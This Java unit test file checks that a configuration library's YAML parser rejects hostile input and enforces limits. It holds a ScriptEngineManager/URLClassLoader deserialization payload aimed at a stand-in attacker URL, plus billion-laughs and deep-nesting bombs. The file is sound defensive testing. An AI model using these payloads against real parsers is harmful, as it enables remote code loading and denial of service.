package dev.hotconf.parse;

import static dev.hotconf.parse.Parsing.error;
import static dev.hotconf.parse.Parsing.yaml;
import static dev.hotconf.parse.Parsing.yamlError;
import static org.assertj.core.api.Assertions.assertThat;

import dev.hotconf.ConfigObject;
import dev.hotconf.ConfigParseException;
import dev.hotconf.Problem;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Hostile YAML: class tags, alias bombs, deep nesting and huge documents fail fast and cheaply. */
@Timeout(10)
class YamlSafetyTest {
  private static final String ONLY_CORE =
      ": only the YAML core tags (!!str, !!int, !!float, !!bool, !!null, !!map, !!seq) are allowed";

  @Test
  void scriptEngineManagerPayloadIsRejectedAndNothingIsInstantiated() {
    ConfigParseException e =
        yamlError(
            """
        exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.invalid/"]]]]
        """);

    assertThat(e.problems())
        .extracting(Problem::toString)
        .containsExactly(
            "app.yaml:1:10: found unsupported tag '!!javax.script.ScriptEngineManager'" + ONLY_CORE,
            "app.yaml:1:46: found unsupported tag '!!java.net.URLClassLoader'" + ONLY_CORE,
            "app.yaml:1:74: found unsupported tag '!!java.net.URL'" + ONLY_CORE);
  }

  @Test
  void classTagNeitherLoadsNorConstructsTheClass() {
    ConfigParseException e =
        yamlError(
            """
        a: !!dev.hotconf.parse.Canary [x]
        b: !!dev.hotconf.parse.Canary
        c: !<tag:yaml.org,2002:dev.hotconf.parse.Canary> {}
        """);

    assertThat(e.problems()).hasSize(3);
    assertThat(Canary.Flags.LOADED).isFalse();
    assertThat(Canary.Flags.CONSTRUCTED).isFalse();
  }

  @Test
  void classTagAtTheRootIsRejected() {
    ConfigParseException e = yamlError("!!javax.script.ScriptEngineManager [1]\n");

    assertThat(e.problems())
        .extracting(Problem::toString)
        .containsExactly(
            "app.yaml:1:1: found unsupported tag '!!javax.script.ScriptEngineManager'" + ONLY_CORE,
            "app.yaml:1:1: the document must be a mapping of keys to values, but it is a list");
  }

  @Test
  void localTagIsRejected() {
    assertThat(yamlError("a: !foo bar\n"))
        .hasMessage("app.yaml:1:4: found unsupported tag '!foo'" + ONLY_CORE);
  }

  @Test
  void globalTagIsRejected() {
    assertThat(yamlError("a: !<tag:example.com,2024:thing> x\n"))
        .hasMessage("app.yaml:1:4: found unsupported tag 'tag:example.com,2024:thing'" + ONLY_CORE);
  }

  @Test
  void binaryTagIsRejected() {
    assertThat(yamlError("a: !!binary aGVsbG8=\n"))
        .hasMessage("app.yaml:1:4: found unsupported tag '!!binary'" + ONLY_CORE);
  }

  @Test
  void setTagIsRejected() {
    assertThat(yamlError("a: !!set {x, y}\n"))
        .hasMessage("app.yaml:1:4: found unsupported tag '!!set'" + ONLY_CORE);
  }

  @Test
  void timestampAndOmapTagsAreRejected() {
    ConfigParseException e =
        yamlError(
            """
        a: !!timestamp 2001-12-14
        b: !!omap [x: 1]
        """);

    assertThat(e.problems())
        .extracting(Problem::toString)
        .containsExactly(
            "app.yaml:1:4: found unsupported tag '!!timestamp'" + ONLY_CORE,
            "app.yaml:2:4: found unsupported tag '!!omap'" + ONLY_CORE);
  }

  @Test
  void collectionTagOnAScalarOrTheWrongCollectionIsRejected() {
    ConfigParseException e =
        yamlError(
            """
        a: !!map x
        b: !!seq {x: 1}
        c: !!str [1]
        """);

    assertThat(e.problems())
        .extracting(Problem::toString)
        .containsExactly(
            "app.yaml:1:4: found unsupported tag '!!map'" + ONLY_CORE,
            "app.yaml:2:4: found unsupported tag '!!seq'" + ONLY_CORE,
            "app.yaml:3:4: found unsupported tag '!!str'" + ONLY_CORE);
  }

  @Test
  void coreTagsAreAccepted() {
    ConfigObject root =
        yaml(
            """
        a: !!str 10
        b: !!int "7"
        c: !!float 3
        d: !!bool "true"
        e: !!null ""
        f: !!map {x: 1}
        g: !!seq [1]
        h: ! 12
        """);

    assertThat(root.unwrapped())
        .hasToString("{a=10, b=7, c=3.0, d=true, e=null, f={x=1}, g=[1], h=12}");
    assertThat(Parsing.value(root, "a")).isEqualTo("10");
    assertThat(Parsing.value(root, "h")).isEqualTo("12");
  }

  @Test
  void coreTagWithAnInvalidValueIsRejected() {
    ConfigParseException e =
        yamlError(
            """
        a: !!int yes
        b: !!bool 1
        c: !!float x
        d: !!null x
        """);

    assertThat(e.problems())
        .extracting(Problem::toString)
        .containsExactly(
            "app.yaml:1:4: value is not a valid !!int",
            "app.yaml:2:4: value is not a valid !!bool",
            "app.yaml:3:4: value is not a valid !!float",
            "app.yaml:4:4: a !!null value must be empty, ~ or null");
  }

  /** The classic billion laughs: 9 levels of 9 aliases each, 9^9 leaves once expanded. */
  static String billionLaughs() {
    StringBuilder sb =
        new StringBuilder(
            "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'i'; c++) {
      sb.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        sb.append(i == 0 ? "*" : ",*").append((char) (c - 1));
      }
      sb.append("]\n");
    }
    return sb.toString();
  }

  @Test
  void billionLaughsStopsAtTheAliasThatExceedsMaxValuesQuicklyAndCheaply() {
    long allocatedBefore = allocatedBytes();
    long start = System.nanoTime();

    ConfigParseException e = yamlError(billionLaughs());

    long millis = (System.nanoTime() - start) / 1_000_000;
    long allocated = allocatedBytes() - allocatedBefore;
    // a..e hold 66,429 leaves; line 6 adds 59,049 per alias: the third one passes 200,000
    assertThat(e)
        .hasMessage("app.yaml:6:14: document expands to more than 200000 values (maxValues)");
    assertThat(millis).as("parse time in ms").isLessThan(2_000);
    if (allocated >= 0) {
      assertThat(allocated).as("bytes allocated").isLessThan(64L * 1024 * 1024);
    }
  }

  @Test
  void doublingAliasChainWithinTheAliasLimitStillHitsMaxValues() {
    // l0 has 2 leaves and each level doubles: l24 would be 2^25 leaves, with only 48 aliases
    StringBuilder sb = new StringBuilder("l0: &l0 [x, x]\n");
    for (int i = 1; i <= 24; i++) {
      sb.append("l")
          .append(i)
          .append(": &l")
          .append(i)
          .append(" [*l")
          .append(i - 1)
          .append(", *l")
          .append(i - 1)
          .append("]\n");
    }
    long allocatedBefore = allocatedBytes();

    ConfigParseException e = yamlError(sb.toString());

    long allocated = allocatedBytes() - allocatedBefore;
    // l0..l15 hold 131,070 leaves, l16's two aliases add 65,536 each: the second passes 200,000
    assertThat(e)
        .hasMessage("app.yaml:17:18: document expands to more than 200000 values (maxValues)");
    if (allocated >= 0) {
      assertThat(allocated).as("bytes allocated").isLessThan(64L * 1024 * 1024);
    }
  }

  @Test
  void aliasesToCollectionsAreLimited() {
    StringBuilder sb = new StringBuilder("base: &b [1]\nuses:\n");
    for (int i = 0; i < 51; i++) {
      sb.append("  - *b\n");
    }

    ConfigParseException e = yamlError(sb.toString());

    assertThat(e).hasMessage("app.yaml:53:5: more than 50 aliases to collections (maxAliases)");
  }

  @Test
  void fiftyAliasesToCollectionsAreAllowed() {
    StringBuilder sb = new StringBuilder("base: &b [1]\nuses:\n");
    for (int i = 0; i < 50; i++) {
      sb.append("  - *b\n");
    }

    assertThat(((dev.hotconf.ConfigList) yaml(sb.toString()).get("uses")).size()).isEqualTo(50);
  }

  @Test
  void aliasesToScalarsAreNotLimitedByMaxAliases() {
    StringBuilder sb = new StringBuilder("base: &b 1\nuses:\n");
    for (int i = 0; i < 200; i++) {
      sb.append("  - *b\n");
    }

    assertThat(((dev.hotconf.ConfigList) yaml(sb.toString()).get("uses")).size()).isEqualTo(200);
  }

  @Test
  void maxAliasesIsConfigurable() {
    ParseLimits none = ParseLimits.builder().maxAliases(0).build();

    ConfigParseException e = error(ConfigFormat.YAML, bytes("a: &a {x: 1}\nb: *a\n"), none);

    assertThat(e).hasMessage("app.yaml:2:4: more than 0 aliases to collections (maxAliases)");
  }

  @Test
  void maxValuesIsConfigurable() {
    ParseLimits three = ParseLimits.builder().maxValues(3).build();

    ConfigParseException e = error(ConfigFormat.YAML, bytes("a: 1\nb: [2, 3]\nc: 4\n"), three);

    assertThat(e).hasMessage("app.yaml:3:4: document expands to more than 3 values (maxValues)");
  }

  @Test
  void tenThousandLevelFlowNestingStopsAtTheFirstLevelOverTheLimit() {
    String doc = "a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";

    // the root mapping is level 1: the 64th '[' (column 67) opens level 65
    assertThat(yamlError(doc))
        .hasMessage("app.yaml:1:67: nesting depth exceeds the limit of 64 (maxNestingDepth)");
  }

  @Test
  void tenThousandLevelFlowMappingNesting() {
    String doc = "{a: ".repeat(10_000) + "1" + "}".repeat(10_000) + "\n";

    assertThat(yamlError(doc))
        .hasMessage("app.yaml:1:257: nesting depth exceeds the limit of 64 (maxNestingDepth)");
  }

  @Test
  void tenThousandLevelBlockNesting() {
    // compact nested block sequences: "- - - ... x", 10,000 levels in 20 KB
    String doc = "a:\n  " + "- ".repeat(10_000) + "x\n";

    assertThat(yamlError(doc))
        .hasMessage("app.yaml:2:129: nesting depth exceeds the limit of 64 (maxNestingDepth)");
  }

  @Test
  void deepBlockMappingNesting() {
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < 2_000; i++) {
      sb.append(" ".repeat(i)).append("k:\n");
    }

    assertThat(yamlError(sb.toString()))
        .hasMessage("app.yaml:65:65: nesting depth exceeds the limit of 64 (maxNestingDepth)");
  }

  @Test
  void nestingAtTheLimitIsAccepted() {
    String doc = "a: " + "[".repeat(63) + "]".repeat(63) + "\n";

    assertThat(yaml(doc).get("a")).isNotNull();
  }

  @Test
  void dottedKeysCountTowardsNestingDepth() {
    String ok = String.join(".", java.util.Collections.nCopies(64, "k")) + ": 1\n";
    String tooDeep = String.join(".", java.util.Collections.nCopies(65, "k")) + ": 1\n";

    assertThat(yaml(ok)).isNotNull();
    assertThat(yamlError(tooDeep).getMessage())
        .startsWith("app.yaml:1:1: key 'k.k.k")
        .endsWith("' makes the nesting depth exceed the limit of 64 (maxNestingDepth)");
  }

  @Test
  void aliasesCannotStackNestingBeyondTheLimit() {
    ParseLimits five = ParseLimits.builder().maxNestingDepth(5).build();
    String doc =
        """
        a: &x [[[1]]]
        b: [*x]
        c: [[*x]]
        """;

    // a is at levels 2-4; b puts that under one more list (5); c under two (6)
    ConfigParseException e = error(ConfigFormat.YAML, bytes(doc), five);

    assertThat(e)
        .hasMessage(
            "app.yaml:3:6: alias '*x' makes the nesting depth exceed the limit of 5 (maxNestingDepth)");
  }

  @Test
  void aliasNestingAtTheLimitIsAccepted() {
    ParseLimits five = ParseLimits.builder().maxNestingDepth(5).build();

    ConfigObject root = Parsing.parse(ConfigFormat.YAML, bytes("a: &x [[[1]]]\nb: [*x]\n"), five);

    assertThat(root.get("b").unwrapped()).isEqualTo(List.of(List.of(List.of(List.of(1L)))));
  }

  @Test
  void documentOverFourMebibytesIsRejectedBeforeParsing() {
    byte[] big = new byte[4 * 1024 * 1024 + 1];
    java.util.Arrays.fill(big, (byte) '#');

    ConfigParseException e = error(ConfigFormat.YAML, big, ParseLimits.defaults());

    assertThat(e)
        .hasMessage(
            "app.yaml: document is 4194305 bytes, over the limit of 4194304 bytes (maxDocumentBytes)");
    assertThat(e.problems())
        .singleElement()
        .satisfies(p -> assertThat(p.origin().hasPosition()).isFalse());
  }

  @Test
  void documentOfExactlyFourMebibytesIsParsed() {
    byte[] big = new byte[4 * 1024 * 1024];
    byte[] line = ("#" + " ".repeat(1022) + "\n").getBytes(StandardCharsets.UTF_8);
    for (int i = 0; i < big.length; i += line.length) {
      System.arraycopy(line, 0, big, i, Math.min(line.length, big.length - i));
    }
    byte[] start = "a: 1\n".getBytes(StandardCharsets.UTF_8);
    System.arraycopy(start, 0, big, 0, start.length);

    assertThat(Parsing.parse(ConfigFormat.YAML, big, ParseLimits.defaults()).unwrapped())
        .isEqualTo(java.util.Map.of("a", 1L));
  }

  @Test
  void lineOverTheYamlLineLengthLimitIsRejectedWhereItGoesOver() {
    // SnakeYAML's reader is quadratic in the length of a single token or comment
    String doc = "a: 1\nb: " + "x".repeat(256 * 1024) + "\n";

    assertThat(yamlError(doc))
        .hasMessage(
            "app.yaml:2:262145: line is longer than 262144 characters, "
                + "the limit for YAML (write a long value as a block scalar)");
  }

  @Test
  void lineAtTheYamlLineLengthLimitIsAccepted() {
    String value = "x".repeat(256 * 1024 - 3);

    assertThat(Parsing.value(yaml("a: 1\nb: " + value + "\r\n"), "b")).isEqualTo(value);
  }

  @Test
  void longValueAsBlockScalarIsAccepted() {
    String line = "y".repeat(1000);
    StringBuilder doc = new StringBuilder("a: >-\n");
    for (int i = 0; i < 1000; i++) {
      doc.append("  ").append(line).append('\n');
    }

    assertThat((String) Parsing.value(yaml(doc.toString()), "a")).hasSize(1000 * 1000 + 999);
  }

  private static byte[] bytes(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  /** Bytes this thread has allocated so far, or -1 where the JVM cannot tell. */
  static long allocatedBytes() {
    if (ManagementFactory.getThreadMXBean() instanceof com.sun.management.ThreadMXBean t
        && t.isThreadAllocatedMemorySupported()
        && t.isThreadAllocatedMemoryEnabled()) {
      return t.getThreadAllocatedBytes(Thread.currentThread().getId());
    }
    return -1;
  }
}
